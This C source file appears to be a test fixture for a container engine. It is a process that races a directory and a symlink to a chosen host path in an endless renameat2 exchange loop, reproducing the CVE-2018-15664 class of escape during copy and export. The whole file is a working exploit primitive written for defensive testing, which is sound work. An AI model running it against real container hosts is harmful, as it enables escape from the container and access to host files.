/* A hostile container process for the engine's path tests (CVE-2018-15664's class): swaps a directory
 * and a symlink to a host path back and forth, as fast as it can, while the engine copies into, out of
 * and exports the container.
 *
 * usage: swap-race TARGET    makes /w/d (a directory holding `sentinel`, "cont\n") and /w/l -> TARGET,
 * prints "ready", then exchanges them (renameat2 RENAME_EXCHANGE; plain renames where that is refused)
 * until killed. An engine that resolves /w/d/... once and then acts on the string sometimes acts on
 * TARGET on the host. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: swap-race TARGET\n");
        return 2;
    }
    mkdir("/w", 0755);
    mkdir("/w/d", 0755);
    int fd = open("/w/d/sentinel", O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0 || write(fd, "cont\n", 5) != 5) {
        perror("/w/d/sentinel");
        return 1;
    }
    close(fd);
    unlink("/w/l");
    if (symlink(argv[1], "/w/l") != 0) {
        perror("/w/l");
        return 1;
    }
    int exchange = syscall(SYS_renameat2, AT_FDCWD, "/w/d", AT_FDCWD, "/w/l", RENAME_EXCHANGE) == 0;
    printf("ready %s\n", exchange ? "exchange" : "rename");
    fflush(stdout);
    for (;;) {
        if (exchange) {
            syscall(SYS_renameat2, AT_FDCWD, "/w/d", AT_FDCWD, "/w/l", RENAME_EXCHANGE);
        } else {
            rename("/w/d", "/w/x");
            rename("/w/l", "/w/d");
            rename("/w/d", "/w/l");
            rename("/w/x", "/w/d");
        }
    }
}
